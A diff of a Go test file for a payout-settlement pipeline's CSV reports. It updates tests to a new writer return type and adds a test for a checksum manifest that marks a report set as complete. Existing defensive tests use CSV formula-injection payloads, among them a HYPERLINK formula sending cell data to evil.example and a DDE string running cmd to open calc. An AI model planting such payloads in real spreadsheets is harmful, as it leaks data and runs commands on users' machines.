@@ -1,14 +1,21 @@
 package load
 
 import (
+	"bytes"
 	"context"
 	"crypto/sha256"
 	"encoding/csv"
 	"encoding/hex"
+	"errors"
+	"fmt"
+	"io/fs"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
+
+	"github.com/gocarina/gocsv"
 
 	"github.com/settlekit/settle/pipeline"
 )
@@ -27,10 +34,11 @@ func TestWriteOrdersStreamsInChunksAndIsDeterministic(t *testing.T) {
 	}
 	for _, n := range []int{0, 1, chunk, chunk + 1, 3*chunk + 7} {
 		r := Reports{Dir: t.TempDir()}
-		path, err := r.WriteOrders(context.Background(), d, emit(n))
+		w, err := r.WriteOrders(context.Background(), d, emit(n))
 		if err != nil {
 			t.Fatal(err)
 		}
+		path := w.Path
 		if want := filepath.Join(r.Dir, "2026-11-23", "orders.csv"); path != want {
 			t.Fatalf("path %s, want %s", path, want)
 		}
@@ -96,8 +104,7 @@ func TestReportCellsAreNotFormulas(t *testing.T) {
 	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
 	ctx := context.Background()
 	paths := map[string]string{}
-	var err error
-	paths["orders"], err = r.WriteOrders(ctx, d, func(fn func(pipeline.OrderLine) error) error {
+	w, err := r.WriteOrders(ctx, d, func(fn func(pipeline.OrderLine) error) error {
 		// a rejected source row keeps the text it read
 		if err := fn(pipeline.OrderLine{OrderNo: evil, SellerID: "@SUM(1+1)*cmd|' /C calc'!A0", Gross: "+1+1", Action: "rejected",
 			State: "rejected", Reason: "amount_minor: not an integer"}); err != nil {
@@ -110,19 +117,22 @@ func TestReportCellsAreNotFormulas(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	paths["payouts"], err = r.WritePayouts(d, func(fn func(pipeline.PayoutLine) error) error {
+	paths["orders"] = w.Path
+	w, err = r.WritePayouts(d, func(fn func(pipeline.PayoutLine) error) error {
 		return fn(pipeline.PayoutLine{Kind: "revenue_share", Subject: "RS/20261123/S1/USD", Key: "RS-1", Currency: "USD",
 			Amount: 100, State: "failed", ProviderRef: evil, LastError: "-2+3"})
 	})
 	if err != nil {
 		t.Fatal(err)
 	}
-	paths["mismatches"], err = r.WriteMismatches(d, func(fn func(pipeline.Mismatch) error) error {
+	paths["payouts"] = w.Path
+	w, err = r.WriteMismatches(d, func(fn func(pipeline.Mismatch) error) error {
 		return fn(pipeline.Mismatch{Provider: "wechatpay", Category: "status", Subject: "bill/1/2026-11-23", TheirsState: "=REFUSED()", Detail: "@x"})
 	})
 	if err != nil {
 		t.Fatal(err)
 	}
+	paths["mismatches"] = w.Path
 	quoted := 0
 	for name, p := range paths {
 		f, err := os.Open(p)
@@ -183,7 +193,7 @@ func TestReportCellsAreNotFormulasAfterASemicolon(t *testing.T) {
 		{OrderNo: "O3", SellerID: "S3", Action: "rejected", State: "rejected", Reason: "held; -HYPERLINK(1)"},
 	}
 	plain := pipeline.OrderLine{OrderNo: "O4", SellerID: "S4", Action: "settle", State: "carried", Reason: "carried; below the minimum"}
-	p, err := r.WriteOrders(context.Background(), d, func(fn func(pipeline.OrderLine) error) error {
+	w, err := r.WriteOrders(context.Background(), d, func(fn func(pipeline.OrderLine) error) error {
 		for _, l := range append(evil, plain) {
 			if err := fn(l); err != nil {
 				return err
@@ -194,7 +204,7 @@ func TestReportCellsAreNotFormulasAfterASemicolon(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	b, err := os.ReadFile(p)
+	b, err := os.ReadFile(w.Path)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -225,4 +235,97 @@ func TestReportCellsAreNotFormulasAfterASemicolon(t *testing.T) {
 	if !strings.Contains(string(b), "\nO4,S4,,,,,,,settle,carried,carried; below the minimum,,,,,\n") {
 		t.Errorf("a plain row is not written as before:\n%s", b)
 	}
+}
+
+// TestAReportSetIsWholeOnlyWithItsManifest: the reports of a date are
+// renamed into place one by one, so a writer stopped between two left
+// today's orders.csv beside yesterday's summary.csv, each file whole and
+// the set looking whole (found by a review). The manifest is removed
+// before a set is written and written last, naming each file with its
+// rows, bytes and sha256: a reader checks the set against it.
+func TestAReportSetIsWholeOnlyWithItsManifest(t *testing.T) {
+	d := pipeline.Date{Year: 2026, Month: 11, Day: 23}
+	r := Reports{Dir: t.TempDir()}
+	orders := func(n int) func(func(pipeline.OrderLine) error) error {
+		return func(fn func(pipeline.OrderLine) error) error {
+			for i := range n {
+				if err := fn(pipeline.OrderLine{OrderNo: fmt.Sprintf("O%d", i), Reason: "a, \"quoted\"\nline"}); err != nil {
+					return err
+				}
+			}
+			return nil
+		}
+	}
+	summary := func(fn func(pipeline.SummaryLine) error) error {
+		return fn(pipeline.SummaryLine{Channel: "infiniapay", Currency: "USD", Balanced: true})
+	}
+	write := func(n int) []byte {
+		if err := r.BeginSet(d); err != nil {
+			t.Fatal(err)
+		}
+		o, err := r.WriteOrders(context.Background(), d, orders(n))
+		if err != nil {
+			t.Fatal(err)
+		}
+		s, err := r.WriteSummary(d, summary)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := r.WriteManifest(d, o, s); err != nil {
+			t.Fatal(err)
+		}
+		return checkManifest(t, r.DateDir(d), "orders.csv", "summary.csv")
+	}
+	first := write(3)
+	if again := write(3); !bytes.Equal(first, again) {
+		t.Errorf("the same reports, another manifest:\n%s\n%s", first, again)
+	}
+	if other := write(4); bytes.Equal(first, other) {
+		t.Errorf("other reports, the same manifest:\n%s", other)
+	}
+	// A writer stopped after orders.csv: no manifest.
+	if err := r.BeginSet(d); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := r.WriteOrders(context.Background(), d, orders(5)); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(filepath.Join(r.DateDir(d), ManifestName)); !errors.Is(err, fs.ErrNotExist) {
+		t.Errorf("a set written in part still has its manifest: %v", err)
+	}
+}
+
+// checkManifest reads dir's manifest, checks that it names the files
+// want, in that order, each with its rows (as encoding/csv reads them),
+// bytes and sha256, and returns it.
+func checkManifest(t *testing.T, dir string, want ...string) []byte {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join(dir, ManifestName))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var lines []ManifestLine
+	if err := gocsv.UnmarshalBytes(b, &lines); err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, l := range lines {
+		names = append(names, l.File)
+		f, err := os.ReadFile(filepath.Join(dir, l.File))
+		if err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(bytes.NewReader(f)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		sum := sha256.Sum256(f)
+		if l.Rows != len(recs)-1 || l.Bytes != int64(len(f)) || l.SHA256 != hex.EncodeToString(sum[:]) {
+			t.Errorf("manifest %+v, the file has %d rows, %d bytes, sha256 %x", l, len(recs)-1, len(f), sum)
+		}
+	}
+	if !slices.Equal(names, want) {
+		t.Errorf("manifest names %v, want %v", names, want)
+	}
+	return b
 }
